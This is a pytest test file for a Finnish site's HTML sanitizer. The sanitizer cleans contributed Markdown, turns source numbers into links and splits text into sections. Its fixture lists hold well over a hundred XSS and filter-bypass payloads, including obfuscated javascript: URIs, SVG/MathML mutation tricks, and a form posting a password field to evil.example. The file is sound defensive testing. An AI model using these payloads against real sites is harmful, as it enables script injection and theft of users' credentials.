"""Contributed text as safe HTML, its source numbers and its sections."""

import re
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown import Markdown
from mkdocs.config import load_config

from kaytantopankki.pages.body import clean, readable, sections

ROOT = Path(__file__).parent.parent

TAGS = frozenset([
    "a", "abbr", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "h2", "h3", "h4", "hr", "li",
    "ol", "p", "pre", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
])  # fmt: skip
ATTRIBUTES = frozenset(
    [
        *(("a", name) for name in ("href", "title", "aria-label")),
        *(("div", name) for name in ("class", "role", "tabindex", "aria-label")),
        *((tag, "id") for tag in ("h2", "h3", "h4")),
        *((tag, name) for tag in ("td", "th") for name in ("colspan", "rowspan")),
        ("abbr", "title"),
        ("ol", "start"),
        ("th", "scope"),
    ]
)
VOID = ("br", "hr")
SCHEME = re.compile(r"[\x00-\x20]*([A-Za-z][A-Za-z0-9+.-]*):")  # Browsers drop tabs and line breaks first.


class Seen(HTMLParser):
    """What a browser would make of HTML: text, tags, addresses, and everything that must not be there."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.tags: list[str] = []
        self.addresses: list[str] = []
        self.wrong: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        self.wrong += [f"<{tag}> is left open" for tag in self.open]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in VOID:
            self.open.append(tag)
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if (tag, name) not in ATTRIBUTES:
                self.wrong.append(f"<{tag} {name}>")
            if name == "href":
                self.addresses.append(value or "")
                scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", value or ""))
                if scheme and scheme[1].lower() not in ("http", "https"):
                    self.wrong.append(f"address {value}")
            if set("<>") & set(value or ""):
                self.wrong.append(f"angle brackets in {name}")

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.wrong.append(f"</{tag}> closes nothing")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"section {data}")


@cache
def _markdown() -> Markdown:
    config = load_config(str(ROOT / "mkdocs.yml"))
    return Markdown(extensions=config.markdown_extensions, extension_configs=config.mdx_configs)


def html_of(text: str) -> str:
    """Markdown as the site turns it into HTML."""
    return str(_markdown().reset().convert(text))


def wrongs(html: str) -> list[str]:
    """Everything in readable HTML, or in one of its sections, that must not be there."""
    pieces = [html, *(piece[part] for piece in sections(html) for part in ("title", "html"))]
    return [wrong for piece in pieces for wrong in Seen(piece).wrong]


# What follows these on the page stays.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<p onclick=alert(1)>kunta</p>",
    '<p OnMouseOver="alert(1)" style="position:fixed">kunta</p>',
    "<p/onclick=alert(1)>kunta</p>",
    '<a href="https://hyva.example" onfocus=alert(1) autofocus tabindex=0>kunta</a>',
    '<a href="https://hyva.example"onclick="alert(1)">kunta</a>',
    "<a href=https://hyva.example/\x0conclick=alert(1)>kunta</a>",
    '<a href="javascript:alert(1)">kunta</a>',
    '<a href="JaVaScRiPt:alert(1)">kunta</a>',
    '<a href=" javascript:alert(1)">kunta</a>',
    '<a href="&#1;javascript:alert(1)">kunta</a>',
    '<a href="&#14;  javascript:alert(1)">kunta</a>',
    '<a href="\x1fjavascript:alert(1)">kunta</a>',
    '<a href="java\tscript:alert(1)">kunta</a>',
    '<a href="java&#10;script:alert(1)">kunta</a>',
    '<a href="java&NewLine;script:alert(1)">kunta</a>',
    '<a href="&#106;&#97;&#118;&#97;script&#58;alert(1)">kunta</a>',
    '<a href="&#x6A&#x61vascript&#x3A;alert(1)">kunta</a>',
    '<a href="&#0000106avascript:alert(1)">kunta</a>',
    '<a href="javascript&colon;alert&lpar;1&rpar;">kunta</a>',
    '<a href="java\x00script:alert(1)">kunta</a>',
    "<a href=`javascript:alert(1)`>kunta</a>",
    '<a href="vbscript:msgbox(1)">kunta</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">kunta</a>',
    '<a href="data:text/html,<script>alert(1)</script>">kunta</a>',
    '<a href="file:///etc/passwd">kunta</a>',
    '<a href="mailto:etunimi@kunta.example">kunta</a>',
    '<a href="blob:https://hyva.example/1">kunta</a>',
    '<a href="https://hyva.example" target="_top" ping="https://evil.example" download>kunta</a>',
    '<a xlink:href="javascript:alert(1)" href="x" style="color:red" class="btn" id="sisalto">kunta</a>',
    '<a href="//evil.example">kunta</a>',
    '<a href="x" title="&quot; onmouseover=&quot;alert(1)">kunta</a>',
    "<a href='x' title='\" onmouseover=\"alert(1)'>kunta</a>",
    '<a href="x" title="[1] onmouseover=alert(1) x=[2]">kunta</a>',
    '<a href="https://hyva.example/?a[1]=&quot;">kunta</a>',
    '<abbr title="<table><script>alert(1)</script>">kunta</abbr>',
    '<abbr title="<h2>x</h2><img src=x onerror=alert(1)>">kunta</abbr>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">kunta</p>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<iframe src=//evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)><param name=a value=b></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=X></applet>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/seuranta.gif">',
    "<image src=x onerror=alert(1)>",
    '<picture><source srcset="https://evil.example/x"><img></picture>',
    "<video src=x onerror=alert(1)><track></video><audio src=x></audio>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><foreignObject><p onclick="alert(1)">x</p></foreignObject></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></table></math>",
    "<form action=https://evil.example><input name=salasana><button formaction=javascript:alert(1)>kunta</button></form>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option onclick=alert(1)>kunta</option></select>",
    "<isindex action=javascript:alert(1) type=image>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details open ontoggle=alert(1)><summary>kunta</summary></details>",
    "<dialog open>kunta</dialog>",
    "<marquee onstart=alert(1)>kunta</marquee>",
    "<h1>kunta</h1>",
    '<div class="kp-header" id="tabs">kunta</div>',
    '<span class="basis basis--m">mitattu</span>',
    '<x-kunta onclick="alert(1)">kunta</x-kunta>',
    '<!-- <script>alert(1)</script> -->',
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<?php echo 1 ?>",
    "<html><head><title>kunta</title></head><body onload=alert(1)>kunta</body></html>",
    "</p></div></section></body></html>",
    "</article></main><div>kunta",
    "<em><h2>kunta</h2></em>",
    '<a href="https://evil.example"><h2>kunta</h2></a>',
    "<h2><blockquote><h2>kunta</h2></blockquote></h2>",
    '<h2 id="&quot;><script>alert(1)</script>">kunta</h2>',
    "<table><tr><td onclick=alert(1) background=javascript:alert(1)>kunta</td></tr></table>",
    "<table><h2>kunta</h2><tr><td><table><tr><td>kunta</table>",
    "<ul><li>kunta<ol start=3 onclick=x><li>kunta",
    "<b><i><u><font color=red>kunta",
    "<em><strong><del>kunta",
    '<a href="https://hyva.example">kunta',
    "<p>1 < 2 && 3 > 2 kunta",
    "[kunta](javascript:alert(1))",
    "[kunta](JAVASCRIPT:alert(1))",
    "[kunta](<javascript:alert(1)>)",
    "[kunta](&#106;avascript:alert(1))",
    "[kunta](\tjava&Tab;script:alert(1))",
    "[kunta](data:text/html;base64,PHNjcmlwdD4=)",
    "[kunta][x]\n\n[x]: javascript:alert(1)",
    "[kunta](https://hyva.example 'x\" onmouseover=\"alert(1)')",
    '[kunta](https://hyva.example"onmouseover="alert(1))',
    "[kunta](https://hyva.example){: onclick=alert(1) }",
    "## kunta {: #sisalto onclick=alert(1) }",
    "![kunta](https://evil.example/x.png)",
    "![kunta](x.png \"x\" onerror=alert(1))",
    "<javascript:alert(1)>",
    "<etunimi@kunta.example>",
    "`<script>alert(1)</script>`",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "``` { .x onclick=alert(1) }\nkunta\n```",
    "    <script>alert(1)</script>",
    "<div markdown=1>\n\n[kunta](javascript:alert(1))\n\n</div>",
    "kunta | <img src=x onerror=alert(1)>\n--- | ---:\n<script>alert(1)</script> | [x](javascript:alert(1))",
    "kunta\n:   <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>\n> kunta",
    "## kunta <img src=x onerror=alert(1)> [1]",
    "\x02klzzwxh:0000\x03",
]  # fmt: skip

# A browser takes all that follows these as a part of them.
SWALLOWING = [
    "<script>alert(1)",
    "<style>body{display:none}",
    "<iframe src=//evil.example>",
    "<textarea>",
    "<title>",
    "<noembed>",
    "<xmp>",
    "<plaintext>",
    "<!-- ",
    '<img src="x onerror=alert(1) ',
    "<img src=x onerror=alert(1) ",
    "<svg><script>alert(1)",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>",
    "<a href='javascript:alert(1) ",
]


def framed(snippet: str) -> str:
    return f"Alku.\n\n{snippet}\n\nLoppu.\n"


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_text_leaves_nothing_behind(snippet: str) -> None:
    for html in (framed(snippet), html_of(framed(snippet))):
        assert wrongs(readable(html)) == []
        assert Seen(clean(html)).wrong == []
        text = Seen(readable(html)).text.strip()
        assert text.startswith("Alku.")
        assert text.endswith("Loppu.")
        assert "kunta" not in Seen(html).text or "kunta" in text


@pytest.mark.parametrize("snippet", SWALLOWING)
def test_unclosed_text_leaves_nothing_behind(snippet: str) -> None:
    for html in (framed(snippet), html_of(framed(snippet))):
        assert wrongs(readable(html)) == []
        assert Seen(readable(html)).text.startswith("Alku.")


@pytest.mark.parametrize(
    "html",
    ["<script>x</script>", "<p onclick=x>", '<a href="javascript:x">y</a>', "<em>", "<!-- x -->", "<!DOCTYPE html>"],
)
def test_the_parser_of_these_tests_sees_what_is_wrong(html: str) -> None:
    assert Seen(html).wrong


PIECES = st.sampled_from(
    [
        *("<script>", "</script>", "<style>", "<svg>", "</svg>", "<math>", "<mtext>", "<h2>", "</h2>", "<h2 id='"),
        *("<a href=", "<a title='", "</a>", "<em>", "</em>", "<table>", "<tr><td>", "</table>", "<blockquote>", "<li>"),
        *("<code>", "</code>", "<pre>", "</pre>", "<p>", "</p>", "<br>", "<hr/>", "<!--", "-->", "<![CDATA[", "]]>"),
        *("javascript:", "https://x/", "onclick=x ", "title=", "[1]", " [2]", "&lt;", "&#106;", "&quot;", "kunta"),
        *("'", '"', ">", "<", "/", "=", " ", "\n", "\n\n", "\n## ", "`", "```\n", "\x00", "\u00a0"),
    ]
)


@settings(max_examples=500, deadline=None, derandomize=True, database=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_random_text_leaves_nothing_behind(text: str) -> None:
    for html in (text, html_of(text)):
        assert wrongs(readable(html)) == []


ORDINARY = [
    "Kunta säästi **paljon** ja *nopeasti*.",
    "## Ratkaisu\n\nTeksti.\n\n### Tarkemmin\n\n#### Vielä tarkemmin\n\nTeksti.",
    "- yksi\n- kaksi\n\n3. kolme\n4. neljä",
    "> lainaus\n\n---\n\nrivi  \ntoinen",
    "`koodi`\n\n```\n<script>\n```",
    "[linkki](https://www.turku.fi/ilmasto?a=1&b=2 \"Turku\") ja [toinen](../turku/#alku) ja <https://www.ii.fi>",
    "sana\n:   selitys",
    "H<sub>2</sub>O, m<sup>2</sup>, <del>vanha</del>, <abbr title=\"hiilidioksidi\">CO</abbr>",
    "Lämpö & sähkö < 5 €, \"näin\" – ’noin’ ½ · 2 × 3",
    '<table><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td rowspan="2">b</td></tr></tbody></table>',
]  # fmt: skip


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    html = html_of(text)
    before, after = Seen(html), Seen(clean(html))
    assert (after.text, after.tags, after.addresses) == (before.text, before.tags, before.addresses)
    assert after.wrong == []
    assert clean(clean(html)) == clean(html)


@pytest.mark.parametrize(
    "address",
    [
        "https://www.turku.fi/",
        "http://www.ii.fi/?a=1#b",
        "HTTPS://WWW.TURKU.FI",
        "../turku/",
        "/kunnat/turku/",
        "#lahteet",
        "?sivu=2",
        "//turku.fi/",
        "",
    ],
)
def test_addresses_that_stay(address: str) -> None:
    seen = Seen(readable(f'<a href="{address}">kunta</a>'))
    assert (seen.addresses, seen.text) == ([address], "kunta")


@pytest.mark.parametrize(
    "scheme", ["javascript:", "vbscript:", "data:", "file:", "mailto:", "tel:", "ftp:", "about:", "x:"]
)
def test_addresses_that_go_while_their_text_stays(scheme: str) -> None:
    assert readable(f'<a href="{scheme}x">kunta</a>') == "<a>kunta</a>"


def number(value: int) -> str:
    return f'<sup><a href="#lahde-{value}" aria-label="lähde {value}">{value}</a></sup>'


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Säästö [1].", f"<p>Säästö{number(1)}.</p>"),
        ("Säästö[12]", f"<p>Säästö{number(12)}</p>"),
        ("Säästö [1] [2]", f"<p>Säästö{number(1)}{number(2)}</p>"),
        ("Säästö [1][2]", f"<p>Säästö{number(1)}{number(2)}</p>"),
        ("Säästö [1, 2,13]", f"<p>Säästö{number(1)}{number(2)}{number(13)}</p>"),
        ("Säästö\u00a0[3]", f"<p>Säästö{number(3)}</p>"),
        ("*Säästö [1]*", f"<p><em>Säästö{number(1)}</em></p>"),
        ("- Säästö [1]", f"<ul>\n<li>Säästö{number(1)}</li>\n</ul>"),
        ("## Tulokset [1]", f'<h2 id="kohta-tulokset-1">Tulokset{number(1)}</h2>'),
        ("[1](https://www.turku.fi)", '<p><a href="https://www.turku.fi">1</a></p>'),
        ("[1](javascript:alert(1))", "<p><a>1</a></p>"),
        ("[1]\n\n[1]: https://www.turku.fi", '<p><a href="https://www.turku.fi">1</a></p>'),
        ("[sivu [1] alku](x/)", '<p><a href="x/">sivu [1] alku</a></p>'),
        ("`lista[1]` [2]", f"<p><code>lista[1]</code>{number(2)}</p>"),
        ("```\nlista[1]\n```", "<pre><code>lista[1]\n</code></pre>"),
        ("    lista[1]", "<pre><code>lista[1]\n</code></pre>"),
        ('<a href="x/?a[1]=2" title="kohta [1]">kohta</a>', '<p><a href="x/?a[1]=2" title="kohta [1]">kohta</a></p>'),
        ('<abbr title="[1]">CO</abbr> [1]', f'<p><abbr title="[1]">CO</abbr>{number(1)}</p>'),
        ("[100] [a] [] [1 [ 1] [1,] [1;2]", "<p>[100] [a] [] [1 [ 1] [1,] [1;2]</p>"),
        ("&lt;a&gt; [1] &lt;/a&gt;", f"<p>&lt;a&gt;{number(1)} &lt;/a&gt;</p>"),
    ],
)
def test_source_numbers_are_links_only_in_text(text: str, html: str) -> None:
    assert readable(html_of(text)) == html


def test_tables_scroll_by_keyboard() -> None:
    html = readable(html_of("a | b\n--- | ---:\n1 | 2 [1]\n"))
    assert html.startswith('<div class="scroll" role="region" tabindex="0" aria-label="Taulukko"><table>')
    assert html.endswith("</table></div>")
    assert Seen(html).tags.count("td") == 2
    assert "style" not in html


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("", []),
        ("Alku.", [("", "", "<p>Alku.</p>")]),
        ("## Opit", [("kohta-opit", "Opit", "")]),
        (
            "Alku.\n\n## Opit\n\nYksi.\n\n### Lisää\n\n## Mitä *nyt*?\n\nKaksi.",
            [
                ("", "", "<p>Alku.</p>"),
                ("kohta-opit", "Opit", '<p>Yksi.</p>\n<h3 id="kohta-lisaa">Lisää</h3>'),
                ("kohta-mita-nyt", "Mitä <em>nyt</em>?", "<p>Kaksi.</p>"),
            ],
        ),
        (
            "<h2>Opit</h2>\n<p>a<br>b</p>\n<hr>\n<h2>Loppu</h2>",
            [("", "Opit", "<p>a<br>b</p>\n<hr>"), ("", "Loppu", "")],
        ),
        (
            "> ## Opit\n>\n> Yksi.",
            [("", "", '<blockquote>\n<h2 id="kohta-opit">Opit</h2>\n<p>Yksi.</p>\n</blockquote>')],
        ),
        (
            "- ## Opit\n\n## Loppu",
            [("", "", '<ul>\n<li>\n<h2 id="kohta-opit">Opit</h2>\n</li>\n</ul>'), ("kohta-loppu", "Loppu", "")],
        ),
    ],
)
def test_sections(text: str, found: list[tuple[str, str, str]]) -> None:
    pieces = sections(readable(html_of(text)))
    assert [(piece["id"], piece["title"], piece["html"]) for piece in pieces] == found


@pytest.mark.parametrize("name", ["lahde-1", "menu", "scheme", "sisalto", "tulokset", "kohta-x"])
def test_ids_of_the_text_are_never_those_of_the_page(name: str) -> None:
    html = readable(f'<h2 id="{name}">a</h2><h3 id="{name}">b</h3><p><a href="#{name}">c</a> <a href="#muu">d</a></p>')
    assert html == (f'<h2 id="kohta-{name}">a</h2><h3>b</h3><p><a href="#kohta-{name}">c</a> <a href="#muu">d</a></p>')


@pytest.mark.parametrize("letter", ["&#x202e;", "&#8238;", "&rlm;", "&shy;", "&#xE000;", "&#x200b;", "&#x1;", "\u202e"])
def test_what_nobody_sees_is_not_shown(letter: str) -> None:
    assert re.sub(r"\ufffd", "", clean(f"<p>kun{letter}ta</p>")) == "<p>kunta</p>"
